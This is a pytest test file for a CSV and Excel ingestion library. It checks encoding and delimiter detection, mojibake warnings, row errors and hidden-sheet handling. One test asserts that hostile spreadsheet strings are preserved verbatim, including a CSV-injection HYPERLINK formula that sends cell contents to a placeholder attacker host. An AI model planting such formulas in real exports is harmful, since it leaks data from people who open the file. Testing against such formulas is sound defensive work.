"""Reading stage on the shared samples: every file gives its rows, headers and texts, and only the
read-level issues INDEX.json implies (warnings for 04 and 12, one per damaged cell; two bad rows in 14)."""

from __future__ import annotations

import polars as pl
import pytest
from conftest import SAMPLES

import ingest.csv_parser as parser_module
from ingest.columns import match_header
from ingest.read import RawTable, read_table

EXPECTED_ENCODING = {
    "01_utf8_comma_lf.csv": ("utf-8", ","),
    "02_excel_utf8_bom_comma_crlf.csv": ("utf-8-sig", ","),
    "03_excel_fr_utf8_bom_semicolon_decimal_comma.csv": ("utf-8-sig", ";"),
    "04_excel_fr_cp1252_semicolon_arabic_lost.csv": ("cp1252", ";"),
    "05_excel_ar_cp1256_semicolon_decimal_comma.csv": ("cp1256", ";"),
    "06_excel_ar_cp1256_comma.csv": ("cp1256", ","),
    "07_excel_unicode_text_utf16le_tab.txt": ("utf-16", "\t"),
    "12_mojibake_double_encoded.csv": ("utf-8-sig", ","),
    "13_excel_leftovers_french_headers.csv": ("utf-8-sig", ";"),
    "16_excel_workbook.xlsx": (None, None),
}
WARNINGS = {
    "04_excel_fr_cp1252_semicolon_arabic_lost.csv": "text_question_marks",
    "12_mojibake_double_encoded.csv": "text_mojibake",
}
ROW_ERRORS = "14_row_errors.csv"


def sample_names(index: dict) -> list[str]:
    return [name for name in index["files"] if name != ROW_ERRORS]


def read_sample(name: str) -> RawTable:
    return read_table((SAMPLES / name).read_bytes(), name)


def by_canonical(table: RawTable) -> dict[str, list[str]]:
    """Cells by canonical column name (each header must be recognised)."""
    names = [match_header(h) for h in table.headers]
    assert None not in names, table.headers
    return {name: table.frame[f"c{i}"].str.strip_chars().to_list() for i, name in enumerate(names)}


def test_every_sample_reads_into_its_canonical_rows(samples_index: dict) -> None:
    canonical = samples_index["canonical_rows"]
    columns = samples_index["columns"]
    for name in sample_names(samples_index):
        spec = samples_index["files"][name]
        table = read_sample(name)
        assert table.frame.height == spec["rows"], name
        assert table.frame["__line"].to_list() == list(range(2, 2 + spec["rows"])), name
        got = by_canonical(table)
        assert sorted(got) == sorted(columns), name
        expected = canonical[: spec["rows"]]
        assert got["org_code"] == [r[0] for r in expected], name
        assert got["indicator_code"] == [r[1] for r in expected], name
        if name != "12_mojibake_double_encoded.csv":
            assert got["unit"] == [r[4] for r in expected], name
        if spec["expect"] == "accept" and name != "15_hostile_strings.csv":
            assert got["notes"] == [r[5] for r in expected], name


@pytest.mark.parametrize("name", sorted(EXPECTED_ENCODING))
def test_sample_encoding_and_delimiter_are_found(name: str, samples_index: dict) -> None:
    table = read_sample(name)
    assert (table.encoding, table.delimiter) == EXPECTED_ENCODING[name]


def test_samples_give_no_read_issue_except_the_expected_warnings(samples_index: dict) -> None:
    for name in sample_names(samples_index):
        table = read_sample(name)
        if name in WARNINGS:
            assert table.issues["code"].to_list() == [WARNINGS[name]] * table.issues.height, name
            assert set(table.issues["severity"]) == {"warning"}, name
            assert "notes" in table.issues["column"].to_list(), name
        else:
            assert table.issues.is_empty(), (name, table.issues.to_dicts())


def test_question_mark_warning_points_at_the_lost_arabic() -> None:
    issue = read_sample("04_excel_fr_cp1252_semicolon_arabic_lost.csv").issues.row(0, named=True)
    assert (issue["line"], issue["column"], issue["value"]) == (8, "notes", "???? ??????? ??? ???????")


def test_mojibake_warnings_point_at_each_damaged_cell() -> None:
    table = read_sample("12_mojibake_double_encoded.csv")
    notes = table.issues.filter(pl.col("column") == "notes")
    assert notes["line"].to_list() == [2, 5, 6, 7, 8, 9, 10, 11]
    assert set(notes["expected"]) == {"8"}
    assert table.issues.filter(pl.col("column") == "unit").select("line", "value", "expected").rows() == [
        (9, "unitÃ©s", "1")
    ]


def through_arabic_excel(name: str) -> bytes:
    """The sample opened by an Arabic Excel as Windows-1256 and saved again as "CSV UTF-8"."""
    data = (SAMPLES / name).read_bytes()
    return data.decode(read_sample(name).encoding).encode("utf-8").decode("cp1256").encode("utf-8")


@pytest.mark.parametrize(
    "name",
    [
        "01_utf8_comma_lf.csv",
        "05_excel_ar_cp1256_semicolon_decimal_comma.csv",
        "08_fr_thousands_nbsp.csv",
        "10_arabic_indic_digits.csv",
        "11_extended_arabic_indic_digits.csv",
        "13_excel_leftovers_french_headers.csv",
    ],
)
def test_samples_saved_again_by_arabic_excel_flag_each_damaged_cell(name: str) -> None:
    original = read_sample(name)
    table = read_table(through_arabic_excel(name), name)
    assert table.frame["__line"].to_list() == original.frame["__line"].to_list()
    positions = [f"c{i}" for i in range(len(original.headers))]
    damaged = {
        (line, i)
        for i, column in enumerate(positions)
        for line, text in original.frame.select("__line", column).iter_rows()
        if not text.isascii() and len(text) > 1  # one Arabic character gives one pair: too little to tell
    }
    names = [h.strip() for h in table.headers]
    flagged = {(line, names.index(column)) for line, column in table.issues.select("line", "column").iter_rows()}
    assert set(table.issues["code"]) == {"text_mojibake"}
    assert flagged == damaged


def test_row_errors_sample_parses_with_two_wrong_cell_counts(samples_index: dict) -> None:
    table = read_sample(ROW_ERRORS)
    assert table.frame.height == 11
    assert table.frame["__line"].to_list() == list(range(2, 13))
    assert table.issues.select("code", "line", "value", "expected").rows() == [
        ("wrong_cell_count", 6, "7", "6"),
        ("wrong_cell_count", 7, "3", "6"),
    ]


def test_hidden_draft_sheet_of_the_workbook_is_never_read() -> None:
    table = read_sample("16_excel_workbook.xlsx")
    assert table.sheet == "Indicateurs"
    assert "brouillon caché" not in table.frame["c5"].to_list()
    assert "999999" not in table.frame["c3"].to_list()
    assert table.frame["c3"].to_list()[:3] == ["1250", "64", "87.5"]


def test_hostile_strings_are_kept_verbatim() -> None:
    notes = read_sample("15_hostile_strings.csv").frame["c5"].to_list()
    assert notes[0] == "=1+1"
    assert notes[4] == '=HYPERLINK("http://attacker.invalid/?d="&A1,"Cliquez")'
    assert notes[5] == "\t=1+1"


def test_samples_take_the_vectorised_path(samples_index: dict, monkeypatch: pytest.MonkeyPatch) -> None:
    exact = parser_module.parse_exact
    used: list[str] = []

    def spy(buf: bytes, dialect):
        used.append(dialect.delimiter)
        return exact(buf, dialect)

    monkeypatch.setattr(parser_module, "parse_exact", spy)
    for name in samples_index["files"]:
        assert read_sample(name).frame.height > 0, name
    assert used == []
